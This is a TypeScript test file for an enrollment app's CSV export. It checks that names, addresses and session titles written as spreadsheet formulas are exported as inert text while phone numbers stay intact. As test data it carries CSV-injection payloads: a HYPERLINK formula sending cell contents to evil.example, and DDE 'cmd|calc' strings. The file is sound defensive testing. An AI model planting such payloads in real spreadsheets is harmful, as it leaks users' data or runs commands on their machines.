// A CSV export is opened in a spreadsheet: a name, address or session title written as a formula must
// stay text there (OWASP's CSV injection), while a phone number still reads as one.
import {
  createCampaign,
  createCenter,
  createHeldSession,
  createRolledUpEnrollment,
  createUser,
} from '@tangtoc/db/fixtures'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { inertText } from '../../src/modules/exports/csv.ts'
import { downloadCsv, parseCsv } from '../csv.ts'
import { type ApiHarness, createApiHarness } from '../harness.ts'

let api: ApiHarness
beforeAll(async () => {
  api = await createApiHarness()
})
afterAll(() => api.close())

describe('formulas in a CSV export', () => {
  it('a cell beginning with =, +, -, @, a tab or a carriage return is made inert', () => {
    expect(inertText('=HYPERLINK("http://evil.example/?"&A1,"Bấm")')).toBe(
      `'=HYPERLINK("http://evil.example/?"&A1,"Bấm")`,
    )
    expect(inertText('+1+cmd|calc')).toBe("'+1+cmd|calc")
    expect(inertText('-2+3')).toBe("'-2+3")
    expect(inertText('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)")
    expect(inertText('\t=1+1')).toBe("'\t=1+1")
    expect(inertText('\r=1+1')).toBe("'\r=1+1")
    expect(inertText('Nguyễn Văn A')).toBe('Nguyễn Văn A')
  })

  it('a phone number such as +84912345678 stays readable', () => {
    expect(inertText('+84912345678')).toBe('+84912345678')
    expect(inertText('-15')).toBe('-15')
    expect(inertText('+84 912 345 678')).toBe("'+84 912 345 678")
  })

  it('a person registered with formulas for name and address exports them as text, the phone as it is', async () => {
    const center = await createCenter(api.prisma)
    const campaign = await createCampaign(api.prisma, { centers: [center] })
    const agent = await createUser(api.prisma, { role: 'AGENT', center })
    const held = await createHeldSession(api.prisma, { campaign, center })
    const session = await api.prisma.outreachSession.update({
      where: { id: held.id },
      data: { title: '@Họp tổ dân phố' },
    })
    const enrollment = await createRolledUpEnrollment(api.prisma, {
      campaign,
      center,
      registeredBy: agent,
      session,
      fullName: '=HYPERLINK("http://evil.example","Xem")',
      phone: '+84912345678',
    })
    // The export shows each enrollment's own contact details, as its center was given them.
    await api.prisma.enrollment.update({
      where: { id: enrollment.id },
      data: { address: '-1+cmd|" /C calc"!A0' },
    })
    const admin = await api.userWithRole('ADMIN', null)
    const { text } = await downloadCsv(
      api,
      `/exports/enrollments.csv?campaign=${campaign.code}`,
      admin.credentials,
    )
    const [header, row] = parseCsv(text.slice(1))
    const cell = (name: string) => row?.[header?.indexOf(name) ?? -1]
    expect(cell('Họ và tên')).toBe(`'=HYPERLINK("http://evil.example","Xem")`)
    expect(cell('Địa chỉ')).toBe(`'-1+cmd|" /C calc"!A0`)
    expect(cell('Buổi tuyên truyền')).toBe("'@Họp tổ dân phố")
    expect(cell('Số điện thoại')).toBe('+84912345678')
  })
})
